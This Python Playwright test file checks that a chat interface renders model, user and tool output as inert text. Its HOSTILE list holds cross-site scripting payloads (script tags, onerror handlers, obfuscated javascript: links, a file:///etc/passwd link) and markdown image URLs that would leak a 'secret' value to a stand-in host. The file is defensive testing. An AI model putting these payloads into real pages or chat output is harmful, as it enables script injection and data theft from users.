"""Text from a model, a person or a tool that would like to run, or to call somebody, does neither (C53)."""

import pytest
from element import Element
from playwright.sync_api import BrowserContext, Request, expect
from serving_page import Server

RUN = "window.__ran=1"
HOSTILE = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    "<img src='https://evil.example/p.png?d=secret'>",
    f"<svg onload={RUN}><use href='https://evil.example/s.svg#a'/></svg>",
    f"<iframe src='javascript:{RUN}'></iframe><iframe srcdoc='<script>{RUN}</script>'></iframe>",
    "<link rel=stylesheet href=https://evil.example/a.css><style>@import 'https://evil.example/b.css'</style>",
    "<video src=https://evil.example/v autoplay></video><object data=https://evil.example/o></object>",
    f"<details open ontoggle={RUN}><a href='javascript:{RUN}'>x</a></details>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example>",
    "<template shadowrootmode=open><img src=https://evil.example/t.png></template>",
    "![x](https://evil.example/p.png?d=secret)",
    "![x](//evil.example/p.png) ![x](http:evil.example/p.png) ![x](\\\\evil.example\\p.png)",
    "![x][ref] ![ref] [x][ref]\n\n[ref]: https://evil.example/r.png",
    "[![x](https://evil.example/l.png)](https://evil.example/l)",
    f"[a](javascript:{RUN}) [b](JaVaScRiPt:{RUN}) [c](java&#9;script:{RUN}) [d](&#x6A;avascript&colon;{RUN})",
    f"[a](<java\tscript:{RUN}>) [b](\x01javascript:{RUN}) [c]( javascript:{RUN})",
    f"![a](javascript:{RUN}) <javascript:{RUN}> <data:text/html,x>",
    f"[a](data:text/html,<script>{RUN}</script>) [b](vbscript:x) [c](blob:x) [d](file:///etc/passwd)",
    f'[a](https://a.example "\\" onmouseover={RUN}") ![a](https://evil.example/"onerror={RUN})',
    f'```js"><img src=x onerror={RUN}>\ncode</code></pre><img src=x onerror={RUN}>\n```',
    f"| <img src=x onerror={RUN}> | ![x](https://evil.example/t.png) |\n|---|---|\n| `<script>{RUN}</script>` | x |",
    "\u202egnp.exe\u202c [\u202emoc.live](https://evil.example) \u2066 \u200f \ufeff \x00",
    f"&lt;img src=x onerror={RUN}&gt; &amp;lt;script&amp;gt;",
    "https://evil.example/auto www.evil.example evil@evil.example",
    f"# <img src=x onerror={RUN}>\n> <svg onload={RUN}>\n- <img src=x onerror={RUN}>\n",
    "<!-- <img src=https://evil.example/c.png> --> <![CDATA[ <img src=x> ]]> <?php ?>",
    "[x](#\"><img src=x onerror=window.__ran=1>) [y](/a'b\"c<d>)",
]  # fmt: skip


@pytest.fixture
def requested(context: BrowserContext) -> list[str]:
    """The paths that pages asked for, other than of Litro, and hosts other than this one."""
    asked: list[str] = []

    def note(request: Request) -> None:
        if "/__litro/" not in request.url:
            asked.append(request.url)

    context.on("request", note)
    return asked


def test_an_answer_runs_nothing_and_asks_nobody(
    context: BrowserContext, server: Server, session: str, requested: list[str]
):
    chat = Element(context.new_page(), server.url, session)
    own = {server.url, f"{server.url}page.css", *requested}
    for part in (HOSTILE[:9], HOSTILE[9:18], HOSTILE[18:]):
        chat.ask("x\n\n" + "\n\n".join(part))
        chat.ends()
    chat.page.reload()
    expect(chat.log.locator(".text code").last).to_be_attached()
    expect(chat.answers).to_have_count(3)
    assert chat.page.evaluate("window.__ran") is None
    assert {url.partition("#")[0] for url in requested} <= {url.partition("#")[0] for url in own}
    made = "img, script, iframe, object, video, use, style, link, meta, base, template, [onerror], [onload], [style]"
    assert chat.log.locator(f".text :is({made})").count() == 0
    links = chat.log.locator(".text a")
    assert links.count() > 10
    told = "links => links.map(({ protocol, rel, target, origin }) => [protocol, rel, target || origin])"
    origin = server.url.removesuffix("/")
    for protocol, rel, where in links.evaluate_all(told):
        assert protocol in {"http:", "https:", "mailto:"}
        assert rel == "noopener noreferrer"
        assert where in {"_blank", origin} or protocol == "mailto:"


def test_with_pictures_of_this_origin_others_are_still_not_asked_for(
    context: BrowserContext, server: Server, session: str, requested: list[str]
):
    chat = Element(context.new_page(), server.url, session, images="origin")
    chat.ask("x\n\n" + "\n\n".join(HOSTILE[10:18]))
    chat.ends()
    assert not [url for url in requested if "evil" in url]
    assert chat.page.evaluate("window.__ran") is None


def test_what_a_tool_got_and_said_is_text(context: BrowserContext, server: Server, session: str):
    chat = Element(context.new_page(), server.url, session)
    chat.ask(f"echo {HOSTILE[1]} {HOSTILE[3]} {HOSTILE[10]}")
    chat.ends()
    fold = chat.fold("echo")
    fold.locator("summary").click()
    expect(fold.get_by_label("Input", exact=True)).to_contain_text("<img src=x")
    expect(fold.get_by_label("Output", exact=True)).to_contain_text("<svg onload")
    assert fold.locator("img").count() == 0
    assert chat.page.evaluate("window.__ran") is None


def test_names_of_chats_are_text(context: BrowserContext, server: Server, session: str):
    context.add_cookies([{"name": "user", "value": f"user-{session}", "url": server.url}])
    chat = Element(context.new_page(), server.url, session, sessions="")
    chat.ask(HOSTILE[1])
    chat.ends()
    row = chat.page.locator(".sessions .session")
    expect(row).to_contain_text("<img src=x")
    row.locator(".pick").press("Delete")
    expect(row).to_contain_text("Delete “<img src=x")
    assert chat.page.evaluate("window.__ran") is None


LARGE = """
    async () => {
        const { Markdown } = await import("/__litro/chat/markdown.js");
        const { ENGLISH } = await import("/__litro/chat/texts.js");
        const texts = {
            line: "x".repeat(1_000_000), words: "word ".repeat(200_000), lines: "\\n".repeat(1_000_000), quotes: ">".repeat(10_000), spaced: "> ".repeat(10_000),
            opened: "[".repeat(10_000), both: "[".repeat(10_000) + "]".repeat(10_000), pictures: "![".repeat(10_000) + "](x)".repeat(10_000), stars: "*a _b ".repeat(10_000),
            ticks: Array.from({ length: 140 }, (_, at) => "`".repeat(at + 1)).join(" "), items: "- ".repeat(10_000), steps: Array.from({ length: 150 }, (_, at) => " ".repeat(2 * at) + "- a").join("\\n"),
            rows: "|a".repeat(5000) + "\\n" + "|-".repeat(5000) + "\\n", fence: "```js\\n" + "x".repeat(1_000_000), tags: "<a b='".repeat(10_000), fences: "```\\n".repeat(10_000),
        };
        const context = { images: "none", texts: ENGLISH, announcer: { say() {} } };
        const shown = {};
        for (const [name, text] of Object.entries(texts)) {
            const host = document.body.appendChild(document.createElement("div"));
            const markdown = new Markdown(host, context);
            const size = Math.ceil(text.length / 60);
            for (let at = 0; at < text.length; at += size) markdown.append(text.slice(at, at + size));
            markdown.end();
            shown[name] = [text.length, host.textContent.length, host.querySelectorAll("*").length];
            host.remove();
        }
        return shown;
    }
"""


def test_text_of_any_size_and_depth_is_shown(context: BrowserContext, server: Server):
    page = context.new_page()
    page.goto(server.url)
    shown: dict[str, tuple[int, int, int]] = page.evaluate(LARGE)
    for name in ("line", "words", "quotes", "opened", "stars", "ticks", "tags"):
        length, seen, _ = shown[name]
        assert seen >= length - 10, name
    assert shown["fence"][1] >= 1_000_000
    for name, (_, _, elements) in shown.items():
        assert elements <= 40_000, name
